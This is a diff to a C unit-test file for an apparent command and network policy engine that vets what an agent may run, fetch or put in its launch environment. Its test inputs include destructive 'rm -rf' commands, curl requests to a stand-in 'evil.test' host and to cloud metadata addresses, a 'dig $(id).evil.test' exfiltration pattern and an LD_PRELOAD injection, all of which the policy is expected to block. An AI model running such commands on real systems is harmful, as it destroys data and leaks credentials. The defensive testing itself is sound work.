@@ -354,7 +354,7 @@ static void command_texts_are_judged_command_by_command(void **state)
 		{ "", 'd', "invalid_request" }, { "   ", 'd', "invalid_request" },
 		{ "ls;rm x", 'd', "policy_block" }, { "ls\nrm x", 'd', "policy_block" }, { "ls\rrm", 'd', "incomplete_evidence" },
 		{ "ls | wc", 'a', NULL }, { "ls & wc < x", 'a', NULL }, { "ls > x", 'r', NULL }, { "ls < x", 'a', NULL }, { "ls $HOME", 'a', NULL }, { "ls `id`", 'a', NULL },
-		{ "ls \"a\"", 'a', NULL }, { "l\\s", 'a', NULL }, { "ls *", 'a', NULL }, { "ls # x", 'a', NULL }, { "(ls)", 'a', NULL }, { "A=1 ls", 'a', NULL }, { "time ls", 'a', NULL },
+		{ "ls \"a\"", 'a', NULL }, { "l\\s", 'a', NULL }, { "ls *", 'a', NULL }, { "ls # x", 'a', NULL }, { "(ls)", 'a', NULL }, { "A=1 ls", 'a', NULL }, { "time ls", 'd', "incomplete_evidence" },
 		{ "ls\xc2\xa0x", 'd', "incomplete_evidence" }, { "ls\x01", 'd', "incomplete_evidence" }, { "echo \"x", 'd', "incomplete_evidence" },
 		/* the strongest reason wins, and its tag */
 		{ "rm -rf /", 'd', "hardline" }, { "sudo rm -rf /", 'd', "hardline" }, { "timeout 5 rm -rf /etc", 'd', "hardline" }, { "ls; env rm -rf ~", 'd', "hardline" }, { "bash -c 'rm -rf \"$HOME\"'", 'd', "hardline" },
@@ -395,7 +395,7 @@ static void requests_are_held_to_the_scope(void **state)
 {
 	static const struct { const char *text; const char *expected; } cases[] = {	/* guarded, observe; without a scope, guarded */
 		{ "curl http://target.test/", "aar" }, { "curl http://evil.test/", "rdr" }, { "curl http://target.test@evil.test/", "rdr" }, { "curl http://127.0.0.1/", "aad" }, { "curl http://10.0.0.1/", "rdd" },
-		{ "curl http://0x7f.1/", "aad" }, { "curl http://169.254.169.254/", "ddd" }, { "curl http://metadata.google.internal/", "ddd" }, { "curl http://localhost:9222/", "ddd" }, { "curl -L http://target.test/", "rrr" },
+		{ "curl http://0x7f.1/", "rdd" }, { "curl http://134744072/", "rdd" }, { "curl http://0xa9fea9fe/", "ddd" }, { "curl http://169.254.169.254/", "ddd" }, { "curl http://metadata.google.internal/", "ddd" }, { "curl http://localhost:9222/", "ddd" }, { "curl -L http://target.test/", "rrr" },
 		{ "curl -d x http://target.test/", "rdr" }, { "curl http://target.test/logout", "rdr" }, { "curl 'http://target.test/?_method=PUT'", "rdr" }, { "curl 'http://target.test/?q=drop+table+x'", "ddd" },
 		{ "curl http://target.test/ http://evil.test/", "rdr" }, { "curl gopher://target.test/", "rdr" }, { "curl \"$URL\"", "rdr" }, { "dig target.test", "aar" }, { "dig $(id).evil.test", "rdr" }, { "nmap target.test", "rrr" },
 		{ "curl http://target.test./", "aar" }, { "curl http://TARGET.test/", "aar" }, { "curl http://target.test:8080/", "aar" }, { "curl http://xn--target-x.test/", "rdr" },
@@ -1079,7 +1079,9 @@ static char **launch_with(enum mode mode, const char *const *asked, struct decis
 {
 	char **environment = NULL;
 
-	assert_int_equal(judge_launch_environment(policy, mode, &user, image, asked, added, "/usr/lib/cordon/entry", ret, &environment), 0);
+	const struct launch_given given = { .user = &user, .image = image, .asked = asked, .added = added, .entry_folder = "/usr/lib/cordon/entry" };
+
+	assert_int_equal(judge_launch_environment(policy, mode, &given, ret, &environment), 0);
 	check_form(ret);
 	assert_int_equal(ret->verdict == VERDICT_ALLOW, environment != NULL);
 	return environment;
@@ -1160,6 +1162,93 @@ static void environment_modes_select(void **state)
 	assert_non_null(value_of(environment, "LC_ALL"));
 	free_environment(environment);
 	policy->environment = before;
+}
+
+struct told {
+	char text[2048];
+};
+
+static void note(void *context, const char *entry, enum env_origin origin, bool passes, const char *why)
+{
+	struct told *told = context;
+	size_t used = strlen(told->text);
+
+	snprintf(told->text + used, sizeof(told->text) - used, "%s/%d/%c/%s\n", entry, (int)origin, passes ? '+' : '-', why);
+}
+
+/* A preset's names pass besides what passes anyhow; deny and code names stay. */
+static void a_preset_gives_its_names_and_no_other(void **state)
+{
+	static const char *names[] = { "TOOL_KEY", NULL }, *denied[] = { "TOOL_KEY", NULL };
+	const char *const from_image[] = { "TOOL_KEY=image", "OTHER=x", "PATH=/usr/lib/cordon/entry:/workspace/bin:/usr/bin", NULL };
+	const char *const asked[] = { "TOOL_KEY2=a", "TOOL_KE=b", "TOOL_KEY_=c", "tool_key=d", NULL }, *const again[] = { "TOOL_KEY=client", NULL };
+	const char *const loads[] = { "TOOL_KEY=k", "LD_PRELOAD=x", "LC_ALL=C", NULL };
+	const struct strings list = { .items = names, .nr = 1 };
+	struct told told = { "" };
+	const struct env_listener listener = { note, &told };
+	struct launch_given given = { .user = &user, .image = from_image, .asked = asked, .added = added, .entry_folder = "/usr/lib/cordon/entry", .also = &list, .path = "/usr/bin" };
+	const struct environment before = policy->environment;
+	char **environment = NULL;
+	struct decision d;
+
+	(void)state;
+	policy->environment.mode = ENV_SELECTED;
+	policy->environment.image_pass = false;
+	assert_int_equal(judge_launch_environment(policy, MODE_GUARDED, &given, &d, &environment), 0);
+	assert_string_equal(value_of(environment, "TOOL_KEY"), "image");
+	assert_string_equal(value_of(environment, "PATH"), "/usr/bin");
+	for (size_t i = 0; i < 4; i++)
+		assert_null(value_of(environment, ((const char *const[]){ "OTHER", "TOOL_KEY2", "TOOL_KE", "tool_key" })[i]));
+	free_environment(environment);
+
+	given.asked = again;
+	assert_int_equal(judge_launch_environment(policy, MODE_GUARDED, &given, &d, &environment), 0);
+	assert_string_equal(value_of(environment, "TOOL_KEY"), "client");
+	free_environment(environment);
+
+	given.also = NULL;
+	assert_int_equal(judge_launch_environment(policy, MODE_GUARDED, &given, &d, &environment), 0);
+	assert_null(value_of(environment, "TOOL_KEY"));
+	free_environment(environment);
+
+	given.also = &list;
+	policy->environment.deny = (struct strings){ .items = denied, .nr = 1 };
+	assert_int_equal(judge_launch_environment(policy, MODE_GUARDED, &given, &d, &environment), 0);
+	assert_null(value_of(environment, "TOOL_KEY"));
+	free_environment(environment);
+
+	/* All is told, also of what is refused, and nothing comes of it. */
+	policy->environment.deny = before.deny;
+	given.asked = loads;
+	given.listener = &listener;
+	environment = NULL;
+	assert_int_equal(judge_launch_environment(policy, MODE_GUARDED, &given, &d, &environment), 0);
+	assert_null(environment);
+	assert_string_equal(d.tag, "environment");
+	for (size_t i = 0; i < 7; i++)
+		if (!strstr(told.text, ((const char *const[]){ "OTHER=x/0/-/not in baseline or allow\n", "TOOL_KEY=k/1/+/preset\n", "LD_PRELOAD=x/1/-/changes which code",
+							       "LC_ALL=C/1/+/baseline\n", "HOME=/home/agent/2/+/passwd\n", "http_proxy=http://127.0.0.1:48080/3/+/added\n",
+							       "PATH=/usr/bin/0/+/baseline\n" })[i]))
+			fail_msg("%zu: %s", i, told.text);
+	assert_null(strstr(told.text, "LD_PRELOAD=x/1/+"));
+	policy->environment = before;
+}
+
+static void what_got_a_presets_variables_is_the_presets_file(void **state)
+{
+	struct judge_subject subject = subject_in(MODE_GUARDED);
+	struct decision d;
+
+	(void)state;
+	assert_true(judge_preset_exec(&subject, "/workspace/tool", &d));
+	subject.preset_program = "/opt/tool";
+	assert_true(judge_preset_exec(&subject, "/opt/tool", &d));
+	for (size_t i = 0; i < 4; i++) {
+		assert_false(judge_preset_exec(&subject, ((const char *const[]){ "/workspace/tool", "/opt/tool2", "/opt", "tool" })[i], &d));
+		check_form(&d);
+		assert_string_equal(d.tag, "environment");
+		assert_string_equal(d.rule, "environment.preset");
+	}
 }
 
 static void the_entry_folder_leaves_path_in_every_place(void **state)
@@ -1259,6 +1348,8 @@ int main(void)
 		cmocka_unit_test(a_launch_begins_with_image_host_and_cordon),
 		cmocka_unit_test(a_launch_that_asks_for_other_code_is_denied),
 		cmocka_unit_test(environment_modes_select),
+		cmocka_unit_test(a_preset_gives_its_names_and_no_other),
+		cmocka_unit_test(what_got_a_presets_variables_is_the_presets_file),
 		cmocka_unit_test(the_entry_folder_leaves_path_in_every_place),
 		cmocka_unit_test(one_exec_decision_is_cheap),
 	};
